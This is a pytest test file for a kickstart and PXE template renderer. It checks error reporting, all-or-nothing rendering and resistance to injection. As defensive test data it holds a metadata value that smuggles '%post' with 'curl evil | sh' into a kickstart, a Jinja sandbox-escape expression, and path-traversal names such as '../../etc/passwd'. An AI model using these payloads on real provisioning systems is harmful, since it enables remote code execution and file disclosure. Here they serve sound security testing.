"""A template problem raises RenderError naming template and line; no partial text, ever."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from provisioner.errors import RenderError
from provisioner.render.configs import Renderer
from tests.conftest import ROOT
from tests.render.fixtures import RHEL5, RHEL9, ctx, web01

GOOD_HEAD = "text\nurl --url={{ tree_url }}\n" + "# padding\n" * 50


def broken_dir(tmp_path: Path, ks: str, snippet: str = "ok\n") -> Path:
    (tmp_path / "kickstarts").mkdir()
    (tmp_path / "snippets").mkdir()
    (tmp_path / "boot").mkdir()
    (tmp_path / "kickstarts" / "broken.ks").write_text(ks)
    (tmp_path / "snippets" / "bad").write_text(snippet)
    (tmp_path / "boot" / "pxelinux.cfg").write_text("DEFAULT install\n  KERNEL {{ kernel_urll }}\n")
    return tmp_path


CASES = {
    "syntax-error": (GOOD_HEAD + "{% if tree_url %}\nno endif\n", "kickstarts/broken.ks", 54,
                     "syntax error"),
    "undefined-variable": (GOOD_HEAD + "rootpw {{ metadata.root_pw }}\n", "kickstarts/broken.ks",
                           53, "UndefinedError"),
    "undefined-in-snippet": (GOOD_HEAD + '{% include "snippets/bad" %}\n', "snippets/bad", 2,
                             "UndefinedError"),
    "runtime-error": (GOOD_HEAD + "{{ 1 // 0 }}\n", "kickstarts/broken.ks", 53,
                      "ZeroDivisionError"),
    "sandbox-violation": (GOOD_HEAD + "{{ ''.__class__.__mro__[1].__subclasses__() }}\n",
                          "kickstarts/broken.ks", 53, "SecurityError"),
    "missing-snippet": (GOOD_HEAD + '{% include "snippets/nope" %}\n', "snippets/nope", None,
                        "not found"),
}


@pytest.mark.parametrize("case", sorted(CASES), ids=sorted(CASES))
def test_broken_kickstart_raises_with_template_and_line(tmp_path: Path, case: str) -> None:
    text, template, line, what = CASES[case]
    r = Renderer(broken_dir(tmp_path, text, snippet="fine\n{{ no_such_var }}\n"))
    with pytest.raises(RenderError) as info:
        r.render("ks", ctx(RHEL9, "broken.ks", system=web01()))
    err = info.value
    assert err.template == template
    assert err.line == line
    assert what in str(err)
    assert template in str(err)
    if line is not None:
        assert f"line {line}" in str(err)


def test_broken_boot_config_raises(tmp_path: Path) -> None:
    r = Renderer(broken_dir(tmp_path, "text\n"))
    with pytest.raises(RenderError, match=r"boot/pxelinux.cfg line 2: UndefinedError"):
        r.render("pxelinux", ctx(RHEL9, "broken.ks", system=web01()))


def test_bad_context_is_a_render_error_too(tmp_path: Path) -> None:
    """Even a context the templates cannot use (metadata not a mapping) fails closed."""
    r = Renderer(broken_dir(tmp_path, "text\n"))
    with pytest.raises(RenderError,
                       match=r"^template kickstarts/broken.ks: (TypeError|ValueError)"):
        r.render("ks", ctx(RHEL9, "broken.ks", system=web01(), metadata=[1, 2, 3]))


def test_missing_kickstart_template(tmp_path: Path) -> None:
    r = Renderer(broken_dir(tmp_path, "text\n"))
    with pytest.raises(RenderError, match="kickstarts/absent.ks not found"):
        r.render("ks", ctx(RHEL9, "absent.ks", system=web01()))


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", ".hidden", "", None, "a b"],
                         ids=["dotdot", "absolute", "dotfile", "empty", "none", "space"])
def test_hostile_kickstart_names_are_refused(tmp_path: Path, name) -> None:
    r = Renderer(broken_dir(tmp_path, "text\n"))
    with pytest.raises(RenderError, match="bad kickstart template name"):
        r.render("ks", ctx(RHEL9, name, system=web01()))


def test_the_good_part_is_never_returned(tmp_path: Path) -> None:
    """Rendering is all-or-nothing: the exception carries no document."""
    r = Renderer(broken_dir(tmp_path, GOOD_HEAD + "{{ nope }}\n"))
    try:
        out = r.render("ks", ctx(RHEL9, "broken.ks", system=web01()))
    except RenderError as e:
        assert "padding" not in str(e)
    else:  # pragma: no cover - the assertion below explains the failure
        pytest.fail(f"partial kickstart returned: {out[:40]!r}")


def test_edited_template_is_picked_up_without_restart(tmp_path: Path) -> None:
    """No sync step: a template change is live on the next render."""
    d = broken_dir(tmp_path, "text\n")
    r = Renderer(d)
    c = ctx(RHEL9, "broken.ks", system=web01())
    assert r.render("ks", c) == "text\n"
    path = d / "kickstarts" / "broken.ks"
    path.write_text("text\nreboot\n")
    import os
    st = path.stat()
    os.utime(path, (st.st_atime, st.st_mtime + 5))
    assert r.render("ks", c) == "text\nreboot\n"


INJECTIONS = {
    "metadata-lang": ({"lang": "en_US.UTF-8\n%post\ncurl evil | sh"}, "kickstarts/rhel9-guest.ks"),
    "metadata-timezone-cr": ({"timezone": "UTC\r%pre"}, "kickstarts/rhel9-guest.ks"),
    "metadata-unicode-line-separator": ({"keyboard": "us\u2028%pre"}, "kickstarts/rhel9-guest.ks"),
    "repo-baseurl": ({"repos": [{"name": "x", "baseurl": "http://a/\nreboot"}]},
                     "snippets/repositories"),
    "package-name": ({"packages": ["vim\n%post"]}, "kickstarts/rhel9-guest.ks"),
}


@pytest.mark.parametrize("case", sorted(INJECTIONS), ids=sorted(INJECTIONS))
def test_line_break_in_a_value_fails_closed(case: str) -> None:
    """A value may not inject kickstart lines: the render fails, naming template and line."""
    metadata, template = INJECTIONS[case]
    r = Renderer(ROOT / "templates")
    with pytest.raises(RenderError, match="contains a line break") as info:
        r.render("ks", ctx(RHEL9, "rhel9-guest.ks", system=web01(), metadata=metadata))
    assert info.value.template == template and info.value.line


def test_kernel_parameters_collapse_whitespace() -> None:
    """Kernel options are whitespace-separated words: line breaks in them become spaces."""
    text = Renderer(ROOT / "templates").render("ks", ctx(
        RHEL9, "rhel9-guest.ks", metadata={"extra_kernel_params": {"a": "b\nc", "quiet": None}}))
    assert 'bootloader --append="a=b c quiet"' in text.splitlines()


def test_multiline_is_allowed_where_marked() -> None:
    text = Renderer(ROOT / "templates").render("ks", ctx(
        RHEL9, "rhel9-guest.ks", system=web01(), hypervisor="kvm",
        metadata={"paravirt_post": "modprobe virtio_net\nmodprobe virtio_blk\n"}))
    assert "modprobe virtio_net\nmodprobe virtio_blk\n" in text


SHIPPED = Renderer(ROOT / "templates")


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(value=st.text(max_size=40), key=st.sampled_from(["lang", "keyboard", "timezone",
                                                        "installation_number", "nameserver"]))
def test_no_value_adds_or_removes_kickstart_lines(value: str, key: str) -> None:
    """Property: whatever an admin puts in a one-line metadata field, the kickstart keeps its
    shape (same number of lines) or the render fails with RenderError, never anything else."""
    r = SHIPPED
    base = r.render("ks", ctx(RHEL5, "rhel5-guest.ks", system=web01(), metadata={key: "x"}))
    try:
        text = r.render("ks", ctx(RHEL5, "rhel5-guest.ks", system=web01(), metadata={key: value}))
    except RenderError:
        return
    assert len(text.splitlines()) == len(base.splitlines())
